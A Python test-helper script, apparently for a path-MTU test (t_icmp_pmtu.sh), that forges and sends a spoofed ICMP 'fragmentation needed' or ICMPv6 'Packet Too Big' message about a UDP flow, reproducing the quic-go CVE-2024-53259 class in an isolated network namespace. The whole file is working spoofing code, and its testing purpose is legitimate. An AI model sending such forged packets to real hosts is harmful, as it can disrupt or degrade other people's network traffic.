#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Send one spoofed ICMP "packet too big" about a UDP flow (t_icmp_pmtu.sh).

usage: icmpspoof.py FROM_ADDR FROM_PORT TO_ADDR TO_PORT MTU

The message says that a UDP datagram FROM_ADDR:FROM_PORT -> TO_ADDR:TO_PORT
(a server's datagram to its client) did not fit a next hop of MTU bytes:
for IPv4 ICMP type 3 code 4 (fragmentation needed, RFC 1191), for IPv6
ICMPv6 type 2 (Packet Too Big, RFC 8201), quoting the IP and UDP headers
of a 1,400-byte datagram of that flow.  It goes to FROM_ADDR, the sender
of the quoted datagram, as a router on the path would send it; nothing in
it is authenticated, which is the point (the quic-go CVE-2024-53259
class).  Needs root (a raw socket); run it only in a network namespace of
its own: the kernel applies the learnt path MTU to every socket of the
namespace that sends to TO_ADDR, for 10 minutes.
"""

import socket
import struct
import sys


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def main(argv):
    if len(argv) != 6:
        print(__doc__.strip().splitlines()[2], file=sys.stderr)
        return 2
    src, sport, dst, dport, mtu = argv[1], int(argv[2]), argv[3], int(argv[4]), int(argv[5])
    size = 1400  # the quoted datagram: larger than the MTU we announce
    udp = struct.pack("!HHHH", sport, dport, size - 8, 0)
    if ":" not in src:
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, size + 20, 1, 0x4000, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        msg = struct.pack("!BBHHH", 3, 4, 0, 0, mtu) + ip + udp
        msg = msg[:2] + struct.pack("!H", checksum(msg)) + msg[4:]
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    else:
        ip = struct.pack("!IHBB16s16s", 6 << 28, size, socket.IPPROTO_UDP, 64,
                         socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst))
        # the kernel fills in the ICMPv6 checksum of a raw ICMPv6 socket
        msg = struct.pack("!BBHI", 2, 0, 0, mtu) + ip + udp
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    s.sendto(msg, (src, 0))
    print("icmpspoof: told %s that %s:%d -> %s:%d needs an MTU of %d" % (src, src, sport, dst, dport, mtu))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
